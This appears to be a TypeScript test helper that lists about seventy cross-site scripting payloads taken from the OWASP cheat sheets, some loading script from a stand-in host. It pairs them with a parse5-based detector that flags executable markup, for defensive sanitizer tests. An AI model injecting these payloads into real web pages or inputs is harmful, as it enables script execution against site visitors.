import { parseFragment, type DefaultTreeAdapterTypes as Tree } from 'parse5';

// An XSS corpus for the "no script reaches a center website" tests (issue 19): the classic vectors of the
// OWASP filter-evasion cheat sheet and the HTML5 security cheat sheet, in the forms editors and importers
// paste: tags, event handlers, script URLs (encoded, split, in odd attributes), SVG and MathML, mutation XSS
// and entity tricks. `findScript` tells whether a value still carries anything a browser would run.

export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script/xss src="https://xss.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG onmouseover="alert(1)">',
  '<img src=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<a href="javascript:alert(1)">klick</a>',
  '<a href="  javascript:alert(1)">klick</a>',
  '<a href="java\tscript:alert(1)">klick</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">klick</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klick</a>',
  '<a href="vbscript:msgbox(1)">klick</a>',
  '<a href="https://ok.example" onclick="alert(1)">klick</a>',
  '<a href=//xss.example/>link</a>',
  '<BODY ONLOAD=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<keygen onfocus=alert(1) autofocus>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<BASE HREF="javascript:alert(1);//">',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<img src=x onerror=alert(1)//<',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '<x onclick=alert(1)>klick</x>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object type="image/svg+xml" data="https://xss.example/x.svg"></object>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<div><span onmouseover=alert(1)>hover</span></div>',
];

const DANGEROUS_ELEMENTS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'base',
  'link',
  'meta',
  'style',
  'svg',
  'math',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'keygen',
  'isindex',
  'template',
  'noscript',
  'xmp',
  'video',
  'audio',
  'source',
  'body',
  'marquee',
  'details',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'data', 'background', 'poster', 'xlink:href']);
const SCRIPT_SCHEME = /^(?:javascript|vbscript|data):/i;
const IGNORED_IN_SCHEME = /[\s\p{Cc}]/gu;
const STYLE_HAZARD = /expression\s*\(|javascript:|url\s*\(|@import|\\/i;

// the tests read the same lists again and again: each value is parsed once
const verdicts = new Map<string, string | undefined>();

/**
 * What in the value a browser would run or load if a page inserted it as HTML (an element, an event handler,
 * a script URL, active CSS), or undefined when nothing. Values without a `<` hold no markup.
 */
export function findScript(value: string): string | undefined {
  if (!value.includes('<')) return undefined;
  if (verdicts.has(value)) return verdicts.get(value);
  if (verdicts.size > 50_000) verdicts.clear();
  const verdict = parseForScript(value);
  verdicts.set(value, verdict);
  return verdict;
}

/** The elements under a node, a template's content included, in document order. */
function* elementsIn(node: Tree.ParentNode): Generator<Tree.Element> {
  for (const child of node.childNodes) {
    if (!('tagName' in child)) continue;
    yield child;
    yield* elementsIn(child.tagName === 'template' ? (child as Tree.Template).content : child);
  }
}

/** parse5 is the HTML parser of jsdom: a browser's fragment parsing (a `<template>` as the context). */
function parseForScript(value: string): string | undefined {
  for (const element of elementsIn(parseFragment(value))) {
    const name = element.tagName.toLowerCase();
    if (DANGEROUS_ELEMENTS.has(name)) return `<${name}>`;
    for (const attribute of element.attrs) {
      const attr = (attribute.prefix ? `${attribute.prefix}:${attribute.name}` : attribute.name).toLowerCase();
      if (attr.startsWith('on')) return `${name}[${attr}]`;
      if (attr === 'srcdoc') return `${name}[srcdoc]`;
      if (attr === 'style' && STYLE_HAZARD.test(attribute.value)) return `${name}[style]`;
      if (URL_ATTRIBUTES.has(attr) && SCRIPT_SCHEME.test(attribute.value.replace(IGNORED_IN_SCHEME, ''))) {
        return `${name}[${attr}=${attribute.value.slice(0, 30)}]`;
      }
    }
  }
  return undefined;
}

/** Every string in a JSON value with the script it still carries (its path and what was found). */
export function findScriptsIn(value: unknown, path = '$'): string[] {
  if (typeof value === 'string') {
    const found = findScript(value);
    return found ? [`${path}: ${found}`] : [];
  }
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, inner]) => [
    ...(findScript(key) ? [`${path}[key ${key.slice(0, 40)}]`] : []),
    ...findScriptsIn(inner, Array.isArray(value) ? `${path}[${key}]` : `${path}.${key}`),
  ]);
}
